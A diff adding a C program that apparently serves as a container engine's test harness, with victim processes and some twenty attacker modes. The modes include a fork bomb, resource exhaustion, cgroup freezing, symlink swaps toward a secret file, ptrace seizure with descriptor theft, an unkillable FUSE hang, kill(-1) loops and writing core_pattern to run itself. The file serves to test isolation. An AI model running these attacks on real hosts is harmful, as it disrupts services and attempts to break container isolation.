@@ -1,0 +1,528 @@
+/* The program of the campaign's containers: attackers, and the victims beside them. One command per call.
+ *
+ * victims
+ *   lines MILLISECONDS [FILE]   prints "line 1", "line 2", … at this period, each after it was appended to FILE and
+ *                         synced; on SIGTERM "total N", then exits with 7
+ *   probe WORD            prints WORD
+ *
+ * attackers, none of which ends by itself
+ *   freezer               freezes every other control group it can reach, new ones at once (inotify)
+ *   frozen                freezes its own control group, v1 and v2
+ *   nested COUNT          makes nested control groups: one deep chain, the rest flat
+ *   deep DEPTH DIR…       makes a chain of directories
+ *   files COUNT DIR…      makes empty files
+ *   descriptors           processes that hold as many descriptors, full pipes and watches as they may
+ *   zombies               children and orphans that nobody reaps
+ *   threads               as many threads as it may, all awake
+ *   forkbomb              forks in every process until the limit
+ *   flood                 writes to stdout and stderr without a pause: lines, no lines, single bytes
+ *   swap LOGS VOLUME SECRET   exchanges its log and its volume with links to SECRET, FIFOs and directories
+ *   ptrace                stops every process it sees and takes its descriptors
+ *   fuse                  a file system that answers no read; a process with its environment on it
+ *   fuse-stuck            the same; those that wait hold its device, so that no signal ends them
+ *   signals               kill(-1, SIGKILL) forever
+ *   namespaces            namespaces and mounts by the hundred, clocks, a first process in its own user namespace
+ *   etc                   fills hosts, hostname, resolv.conf, termination-log and /dev/shm
+ *   memory                touches memory until the kernel kills
+ *   connections PORT      holds connections to the streaming server that say nothing
+ *   leave                 leaves a process without any descriptor and ends
+ *   spin                  every processor
+ */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/epoll.h>
+#include <sys/inotify.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/timex.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static void nap(long microseconds) {
+    struct timespec t = {microseconds / 1000000, microseconds % 1000000 * 1000};
+    nanosleep(&t, NULL);
+}
+
+static int put(const char *path, const char *text) {
+    int fd = open(path, O_WRONLY | O_CLOEXEC);
+    if (fd < 0) return -1;
+    ssize_t n = write(fd, text, strlen(text));
+    close(fd);
+    return n < 0 ? -1 : 0;
+}
+
+static void rest(void) { for (;;) pause(); }
+
+/* ── victims ── */
+
+static volatile sig_atomic_t told_to_end;
+static void on_term(int s) { (void)s; told_to_end = 1; }
+
+static int lines(long period, const char *file) {
+    struct sigaction action = {.sa_handler = on_term};
+    sigaction(SIGTERM, &action, NULL);
+    unsigned long n = 0;
+    int copy = file ? open(file, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644) : -1;
+    while (!told_to_end) {
+        char text[64];
+        int length = snprintf(text, sizeof text, "line %lu\n", ++n);
+        if (copy >= 0 && (write(copy, text, length) < 0 || fdatasync(copy))) nap(1000);
+        for (int at = 0; at < length;) {
+            ssize_t wrote = write(1, text + at, length - at);
+            if (wrote > 0) at += wrote;
+        }
+        nap(period * 1000);
+    }
+    dprintf(1, "total %lu\n", n);
+    return 7;
+}
+
+/* ── control groups ── */
+
+static void own_namespaces(int flags) {
+    if (unshare(CLONE_NEWUSER | flags)) { perror("unshare"); return; }
+    put("/proc/self/setgroups", "deny");
+    put("/proc/self/uid_map", "0 0 1");
+    put("/proc/self/gid_map", "0 0 1");
+}
+
+static void mount_groups(void) {
+    own_namespaces(CLONE_NEWNS | CLONE_NEWCGROUP);
+    mkdir("/tmp/v2", 0755);
+    mkdir("/tmp/v1", 0755);
+    if (mount("none", "/tmp/v2", "cgroup2", 0, NULL)) perror("mount cgroup2");
+    if (mount("none", "/tmp/v1", "cgroup", 0, "freezer")) perror("mount the v1 freezer");
+}
+
+static void freeze_one(const char *group) {
+    char path[4096];
+    snprintf(path, sizeof path, "%s/cgroup.freeze", group);
+    put(path, "1");
+    snprintf(path, sizeof path, "%s/freezer.state", group);
+    put(path, "FROZEN");
+}
+
+static void freeze_below(int watch, const char *group, int depth) {
+    inotify_add_watch(watch, group, IN_CREATE | IN_ONLYDIR);
+    DIR *dir = opendir(group);
+    if (!dir) return;
+    for (struct dirent *entry; (entry = readdir(dir));) {
+        if (entry->d_type != DT_DIR || entry->d_name[0] == '.') continue;
+        char path[4096];
+        snprintf(path, sizeof path, "%s/%s", group, entry->d_name);
+        freeze_one(path);
+        if (depth < 8) freeze_below(watch, path, depth + 1);
+    }
+    closedir(dir);
+}
+
+/* As fast as it can be: a command's group is there for a millisecond before its process is in it. */
+static void freeze_as_they_come(const char *tree) {
+    int watch = inotify_init1(IN_CLOEXEC);
+    static char events[65536];
+    if (chdir(tree)) return;
+    for (;;) {
+        freeze_below(watch, ".", 0);
+        for (int round = 0; round < 50; round++) {
+            ssize_t length = read(watch, events, sizeof events);
+            for (ssize_t at = 0; at < length;) {
+                struct inotify_event *event = (void *)(events + at);
+                freeze_one(event->name);
+                at += sizeof *event + event->len;
+            }
+        }
+    }
+}
+
+static void freezer(void) {
+    mount_groups();
+    for (int n = 0; n < 4; n++) if (fork() == 0) freeze_as_they_come(n == 0 ? "/tmp/v1" : "/tmp/v2");
+    rest();
+}
+
+static void frozen(void) {
+    mount_groups();
+    nap(300000); /* until somebody is inside */
+    freeze_one("/tmp/v2");
+    freeze_one("/tmp/v1");
+    rest();
+}
+
+static void nested(long count) {
+    mount_groups();
+    for (int tree = 0; tree < 2; tree++) {
+        if (chdir(tree ? "/tmp/v1" : "/tmp/v2")) continue;
+        long made = 0;
+        char name[64];
+        for (; made < count; made++) {
+            snprintf(name, sizeof name, "flat%ld", made);
+            if (made >= count / 3 && mkdir(name, 0755)) break;
+            if (made < count / 3 && (mkdir("deep", 0755) || chdir("deep"))) break;
+            if (made + 1 == count / 3 && chdir(tree ? "/tmp/v1" : "/tmp/v2")) break;
+        }
+        printf("%ld groups: %s\n", made, strerror(errno));
+    }
+    fflush(stdout);
+    rest();
+}
+
+/* ── directories ── */
+
+static void deep(long depth, char **dirs) {
+    for (; *dirs; dirs++) {
+        long made = 0;
+        if (chdir(*dirs)) continue;
+        while (made < depth && !mkdir("d", 0755) && !chdir("d")) made++;
+        printf("%s: %ld deep\n", *dirs, made);
+        fflush(stdout);
+    }
+    rest();
+}
+
+static void files(long count, char **dirs) {
+    for (; *dirs; dirs++) {
+        for (long n = 0; n < count; n++) {
+            char path[4096];
+            snprintf(path, sizeof path, "%s/many%ld", *dirs, n / 1000);
+            if (n % 1000 == 0) mkdir(path, 0755);
+            snprintf(path, sizeof path, "%s/many%ld/%ld", *dirs, n / 1000, n);
+            int fd = open(path, O_WRONLY | O_CREAT, 0644);
+            if (fd < 0) break;
+            close(fd);
+        }
+    }
+    rest();
+}
+
+/* ── storms ── */
+
+static void descriptors(void) {
+    struct rlimit limit;
+    getrlimit(RLIMIT_NOFILE, &limit);
+    limit.rlim_cur = limit.rlim_max < 20000 ? limit.rlim_max : 20000;
+    setrlimit(RLIMIT_NOFILE, &limit);
+    for (int child = 0; child < 8; child++) {
+        if (fork()) continue;
+        static char block[65536];
+        for (int kind = 0;; kind++) {
+            int pair[2];
+            if (kind % 4 == 0 && !pipe2(pair, O_NONBLOCK)) {
+                if (write(pair[1], block, sizeof block) < 0) nap(1000);
+            } else if (kind % 4 == 1) epoll_create1(0);
+            else if (kind % 4 == 2) inotify_add_watch(inotify_init1(0), "/", IN_ALL_EVENTS);
+            else if (dup(0) < 0) nap(100000);
+        }
+    }
+    rest();
+}
+
+static void zombies(void) {
+    for (;;) {
+        pid_t child = fork();
+        if (child == 0) {
+            if (fork() >= 0) _exit(0); /* the grandchild is an orphan: the first process never reaps */
+            _exit(0);
+        }
+        if (child < 0) nap(50000);
+    }
+}
+
+static void *awake(void *none) {
+    for (;;) { nap(1000); sched_yield(); }
+    return none;
+}
+
+static void threads(void) {
+    pthread_attr_t small;
+    pthread_attr_init(&small);
+    pthread_attr_setstacksize(&small, 65536);
+    for (;;) {
+        pthread_t thread;
+        if (pthread_create(&thread, &small, awake, NULL)) nap(100000);
+    }
+}
+
+static void forkbomb(void) {
+    signal(SIGTERM, SIG_IGN);
+    setsid();
+    for (;;) if (fork() < 0) nap(10000);
+}
+
+static void flood(void) {
+    static char block[65536];
+    for (int kind = 0; kind < 4; kind++) {
+        if (fork()) continue;
+        int fd = 1 + kind % 2;
+        memset(block, 'x', sizeof block);
+        if (kind == 0) for (size_t n = 15; n < sizeof block; n += 16) block[n] = '\n';
+        size_t length = kind == 2 ? 1 : kind == 3 ? 4000 : sizeof block;
+        if (kind == 2) block[0] = '\n';
+        for (;;) if (write(fd, block, length) < 0) nap(1000);
+    }
+    rest();
+}
+
+/* ── names ── */
+
+static void replace(const char *path, int kind, const char *secret) {
+    char beside[4096];
+    snprintf(beside, sizeof beside, "%s.beside", path);
+    unlink(beside);
+    rmdir(beside);
+    if (kind == 0 && symlink(secret, beside)) return;
+    if (kind == 1 && mkfifo(beside, 0666)) return;
+    if (kind == 2 && mkdir(beside, 0777)) return;
+    if (kind == 3) close(open(beside, O_CREAT | O_WRONLY, 0666));
+    if (kind == 4 && symlink(path, beside)) return;
+    if (syscall(SYS_renameat2, AT_FDCWD, beside, AT_FDCWD, path, 2u)) rename(beside, path);
+}
+
+static void swap(const char *logs, const char *volume, const char *secret) {
+    char log[4096], part[4096], inside[64] = "/tmp/swapped";
+    snprintf(log, sizeof log, "%s/swap.log", logs);
+    snprintf(part, sizeof part, "%s/part", volume);
+    for (unsigned n = 0;; n++) {
+        replace(log, n % 5, secret);
+        replace(part, (n * 3 + 1) % 5, secret);
+        replace(inside, (n * 2) % 5, secret);
+        printf("swap %u\n", n);
+        fflush(stdout);
+        if (n % 64 == 0) nap(1000);
+    }
+}
+
+/* ── other processes ── */
+
+static void hold(int pid) {
+    if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
+        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+        printf("stopped %d\n", pid);
+        fflush(stdout);
+    }
+    int process = syscall(SYS_pidfd_open, pid, 0);
+    for (int fd = 0; process >= 0 && fd < 64; fd++) {
+        int taken = syscall(SYS_pidfd_getfd, process, fd, 0);
+        if (taken < 0) continue;
+        char path[64], to[256];
+        snprintf(path, sizeof path, "/proc/self/fd/%d", taken);
+        ssize_t n = readlink(path, to, sizeof to - 1);
+        to[n < 0 ? 0 : n] = 0;
+        /* Of the engine itself nothing may be within reach. */
+        if (strstr(to, "pinion") || strstr(to, "pinmon")) printf("took %s\n", to);
+        fflush(stdout);
+        close(taken);
+    }
+    if (process >= 0) close(process);
+}
+
+static void trace(void) {
+    for (;;) {
+        DIR *dir = opendir("/proc");
+        for (struct dirent *entry; dir && (entry = readdir(dir));) {
+            int pid = atoi(entry->d_name);
+            if (pid > 1 && pid != getpid()) hold(pid);
+        }
+        if (dir) closedir(dir);
+        nap(200);
+    }
+}
+
+static void signals(void) {
+    for (unsigned n = 0;; n++) {
+        kill(-1, n % 16 == 15 ? SIGSTOP : SIGKILL);
+        while (waitpid(-1, NULL, WNOHANG) > 0) {}
+        nap(100);
+    }
+}
+
+static void leave(void) {
+    if (fork() == 0) {
+        setsid();
+        for (int fd = 0; fd < 64; fd++) close(fd);
+        rest();
+    }
+    _exit(0);
+}
+
+/* ── a file system that answers no read ── */
+
+static void answer(int device, struct fuse_in_header *in, const void *body, size_t length, int error) {
+    char out[4096];
+    struct fuse_out_header head = {.len = sizeof head + length, .error = error, .unique = in->unique};
+    memcpy(out, &head, sizeof head);
+    if (length) memcpy(out + sizeof head, body, length);
+    if (write(device, out, head.len) < 0) nap(1000);
+}
+
+static void serve(int device) {
+    static char request[1 << 18];
+    struct fuse_attr file = {.ino = 2, .size = 1 << 20, .mode = S_IFREG | 0755, .nlink = 1, .blksize = 4096};
+    struct fuse_attr root = {.ino = 1, .mode = S_IFDIR | 0755, .nlink = 2, .blksize = 4096};
+    for (;;) {
+        if (read(device, request, sizeof request) < 0) { nap(1000); continue; }
+        struct fuse_in_header *in = (void *)request;
+        struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = 4096};
+        struct fuse_entry_out entry = {.nodeid = 2, .entry_valid = 1, .attr = file};
+        struct fuse_attr_out attr = {.attr_valid = 0, .attr = in->nodeid == 1 ? root : file};
+        struct fuse_open_out opened = {.fh = 1};
+        if (in->opcode == FUSE_INIT) answer(device, in, &init, sizeof init, 0);
+        /* One name has attributes; every other look-up, read and statfs waits forever. */
+        else if (in->opcode == FUSE_LOOKUP && !strcmp((char *)(in + 1), "file")) answer(device, in, &entry, sizeof entry, 0);
+        else if (in->opcode == FUSE_GETATTR) answer(device, in, &attr, sizeof attr, 0);
+        else if (in->opcode == FUSE_OPEN) answer(device, in, &opened, sizeof opened, 0);
+    }
+}
+
+static int environment_on(const char *path) {
+    extern char **environ;
+    int fd = open(path, O_RDONLY);
+    for (char **variable = environ; fd >= 0 && *variable; variable++) {
+        if (strncmp(*variable, "PAD=", 4)) continue;
+        char *page = (char *)(((unsigned long)*variable + 8191) & ~4095ul);
+        if (mmap(page, 4096 * 8, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, 0) == MAP_FAILED) perror("mmap");
+    }
+    puts("the environment is on the file system");
+    fflush(stdout);
+    rest();
+    return 0;
+}
+
+static void fuse_of(int stuck) {
+    int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
+    char options[128];
+    if (device < 0) return perror("/dev/fuse"), rest();
+    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", device);
+    mkdir("/fuse", 0755);
+    if (mount("hung", "/fuse", "fuse", MS_NOSUID, options)) return perror("mount fuse"), rest();
+    if (fork() == 0) serve(device);
+    /* A process that waits for an answer and holds the device keeps itself from being killed: an attack of its own. */
+    if (!stuck) close(device);
+    if (fork() == 0) {
+        static char pad[65536] = "PAD=";
+        memset(pad + 4, 'x', sizeof pad - 5);
+        char *argv[] = {"attacker", "environment", NULL}, *envp[] = {pad, NULL};
+        execve("/bin/attacker", argv, envp);
+    }
+    for (int n = 0; n < 8; n++)
+        if (fork() == 0) {
+            struct stat status;
+            if (n % 2) stat("/fuse/other", &status);
+            else { char byte; int fd = open("/fuse/file", O_RDONLY); if (read(fd, &byte, 1) < 0) rest(); }
+            rest();
+        }
+    rest();
+}
+
+static void fuse(void) { fuse_of(0); }
+static void fuse_stuck(void) { fuse_of(1); }
+
+/* ── namespaces, clocks, files of the pod, memory ── */
+
+static void clocks(void) {
+    struct timespec moment = {1, 0};
+    struct timex adjust = {.modes = ADJ_OFFSET, .offset = 500000};
+    clock_settime(CLOCK_REALTIME, &moment);
+    adjtimex(&adjust);
+    put("/proc/sys/kernel/hostname", "owned");
+    put("/proc/sys/kernel/core_pattern", "|/bin/attacker");
+    put("/proc/sysrq-trigger", "h");
+}
+
+static void namespaces(void) {
+    own_namespaces(CLONE_NEWNS | CLONE_NEWUTS | CLONE_NEWIPC);
+    for (;;) {
+        clocks();
+        pid_t child = fork();
+        if (child == 0) {
+            unshare(CLONE_NEWUSER | CLONE_NEWNET | CLONE_NEWNS | CLONE_NEWIPC | CLONE_NEWUTS | CLONE_NEWCGROUP | CLONE_NEWPID);
+            unshare(CLONE_NEWTIME);
+            put("/proc/self/timens_offsets", "monotonic 100000 0\nboottime 100000 0");
+            for (int n = 0; n < 200; n++) mount("none", "/tmp", "tmpfs", 0, "size=4k");
+            nap(2000000);
+            _exit(0);
+        }
+        if (child < 0) nap(100000);
+        nap(20000);
+        while (waitpid(-1, NULL, WNOHANG) > 0) {}
+    }
+}
+
+static void etc(void) {
+    static char block[65536];
+    const char *names[] = {"/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/dev/termination-log", "/dev/shm/full", NULL};
+    memset(block, 'x', sizeof block);
+    for (;;) {
+        for (const char **name = names; *name; name++) {
+            int fd = open(*name, O_WRONLY | O_CREAT | O_APPEND, 0644);
+            for (int n = 0; fd >= 0 && n < 1024 && write(fd, block, sizeof block) > 0; n++) {}
+            if (fd >= 0) close(fd);
+        }
+        nap(500000);
+        for (const char **name = names; *name; name++) if (truncate(*name, 0)) nap(1);
+    }
+}
+
+static void memory(void) {
+    for (;;) {
+        pid_t child = fork();
+        if (child == 0) {
+            for (;;) {
+                char *block = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+                if (block != MAP_FAILED) memset(block, 1, 1 << 20);
+            }
+        }
+        waitpid(child, NULL, 0);
+        nap(50000);
+    }
+}
+
+static void connections(int port) {
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+    for (;;) {
+        int fd = socket(AF_INET, SOCK_STREAM, 0);
+        if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to)) { if (fd >= 0) close(fd); nap(10000); continue; }
+        if (write(fd, "GET /exec/x HTTP/1.1\r\n", fd % 2 ? 22 : 1) < 0) close(fd);
+    }
+}
+
+static void spin(void) {
+    for (int n = 0; n < 8; n++) if (fork() == 0) for (;;) __asm__ volatile("");
+    rest();
+}
+
+int main(int n, char **a) {
+    const char *c = n > 1 ? a[1] : "";
+    struct { const char *name; void (*run)(void); } plain[] = {
+        {"freezer", freezer}, {"frozen", frozen}, {"descriptors", descriptors}, {"zombies", zombies}, {"threads", threads},
+        {"forkbomb", forkbomb}, {"flood", flood}, {"ptrace", trace}, {"signals", signals}, {"leave", leave}, {"fuse", fuse},
+        {"fuse-stuck", fuse_stuck},
+        {"namespaces", namespaces}, {"etc", etc}, {"memory", memory}, {"spin", spin}, {"rest", rest},
+    };
+    for (size_t i = 0; i < sizeof plain / sizeof *plain; i++) if (!strcmp(c, plain[i].name)) return plain[i].run(), 0;
+    if (!strcmp(c, "lines") && n > 2) return lines(atol(a[2]), a[3]);
+    if (!strcmp(c, "probe") && n > 2) return puts(a[2]), 0;
+    if (!strcmp(c, "environment")) return environment_on("/fuse/file");
+    if (!strcmp(c, "nested") && n > 2) return nested(atol(a[2])), 0;
+    if (!strcmp(c, "deep") && n > 3) return deep(atol(a[2]), a + 3), 0;
+    if (!strcmp(c, "files") && n > 3) return files(atol(a[2]), a + 3), 0;
+    if (!strcmp(c, "swap") && n > 4) return swap(a[2], a[3], a[4]), 0;
+    if (!strcmp(c, "connections") && n > 2) return connections(atoi(a[2])), 0;
+    fprintf(stderr, "attacker: unknown command %s\n", c);
+    return 2;
+}
